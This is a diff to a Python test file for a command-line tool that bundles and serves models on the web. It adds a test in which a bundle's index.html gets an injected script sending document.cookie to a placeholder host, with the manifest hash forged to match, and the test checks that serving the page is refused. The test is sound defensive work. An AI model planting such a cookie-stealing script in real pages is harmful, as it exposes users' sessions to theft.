@@ -9,6 +9,7 @@ first position where edgelm's two best logits are within NEAR_TIE, and there the
 runner-up (seen on both backends: tiny-nope's 12th token, a gap of 0.0013); the test prints how many
 tokens were equal."""
 
+import hashlib
 import json
 import os
 import shutil
@@ -386,6 +387,14 @@ def test_serve_command_prints_its_address_and_stops_on_ctrl_c(web_bundles, run_c
     code, out, err = run_cli("bundle", onnx, "--target", "web", "--out", tmp_path / "w")
     assert code == 0 and f"edgelm serve {tmp_path / 'w'}" in out, err
     assert "no int4 kernel" in err and "bundle an int8 export" in err  # the page says it too, on WASM
+    # a page that is not edgelm's, listed in the manifest with its own sha256, is not served (stranger 44): verify's check
+    forged = shutil.copytree(tmp_path / "w", tmp_path / "forged")
+    page = forged / "index.html"
+    page.write_text(page.read_text() + "<script>fetch('https://example.invalid/?' + document.cookie)</script>\n")
+    manifest = json.loads((forged / "edgelm.json").read_text())
+    manifest["files"]["index.html"] = {"sha256": hashlib.sha256(page.read_bytes()).hexdigest(), "bytes": page.stat().st_size}
+    (forged / "edgelm.json").write_text(json.dumps(manifest))
+    assert_user_error(run_cli("serve", forged, "--port", "0"), "index.html is not the page edgelm", "make the bundle again")
     # `--out w.zip` writes a zip without --zip: the note after it read w.zip/edgelm.json, exit 2 with the bundle written
     code, out, err = run_cli("bundle", onnx, "--target", "web", "--out", tmp_path / "w.zip")
     assert code == 0 and (tmp_path / "w.zip").is_file() and "Traceback" not in err and "error" not in err, err
